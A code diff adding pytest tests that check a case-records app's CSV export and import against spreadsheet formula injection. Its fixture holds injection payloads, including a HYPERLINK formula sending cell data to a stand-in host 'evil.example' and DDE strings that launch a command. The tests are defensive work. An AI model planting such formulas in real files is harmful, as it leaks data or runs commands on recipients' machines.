@@ -363,3 +363,53 @@ def test_purge_exits_1_when_media_is_left_behind(monkeypatch):
         call_command("purge_rejected", "--older-than", "90", stdout=io.StringIO(), stderr=io.StringIO())
 
     assert failure.value.returncode == 1
+
+
+FORMULAS = {
+    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Ada")',
+    "last_name": "+cmd|' /C calc'!A0",
+    "nickname": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "distinguishing_features": "-2+3+cmd|' /C calc'!A0",
+    "last_seen_place": "\t=1+1",
+    "circumstances": "\r=1+1",
+    "agency_phone": "+1 709 555 0100",
+}
+
+
+def test_export_writes_no_cell_a_spreadsheet_would_run_as_a_formula():
+    """A pending, unreviewed submission plants formulas: the export keeps them as text (a leading apostrophe)."""
+    CaseFactory(**FORMULAS)
+
+    (row,) = csv.DictReader(io.StringIO(exported(), newline=""))
+
+    for field, planted in FORMULAS.items():
+        assert row[field] == "'" + planted, field
+    for value in row.values():
+        assert not value.lstrip().startswith(("=", "+", "-", "@")), value
+
+
+def test_formulas_kept_as_text_round_trip_through_export_and_import(tmp_path):
+    moderator = StaffFactory()
+    case = CaseFactory(**FORMULAS)
+    path = tmp_path / "cases.csv"
+    run("export_cases", "--output", str(path))
+    Case.objects.all().delete()
+
+    run("import_cases", str(path), "--by", moderator.username)
+
+    copy = Case.objects.get(slug=case.slug)
+    for field, planted in FORMULAS.items():
+        assert getattr(copy, field) == planted.strip(), field
+
+
+@pytest.mark.parametrize("formula", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1"])
+def test_import_refuses_a_cell_a_spreadsheet_would_run_as_a_formula(tmp_path, formula):
+    path = write_csv(tmp_path, [valid_row(), valid_row(last_seen_place=formula)])
+    err = io.StringIO()
+
+    with pytest.raises(CommandError, match="nothing was imported"):
+        call_command("import_cases", str(path), stdout=io.StringIO(), stderr=err)
+
+    assert err.getvalue().startswith("line 3: last_seen_place: begins with “")
+    assert "spreadsheet runs as a formula" in err.getvalue()
+    assert not Case.objects.exists()
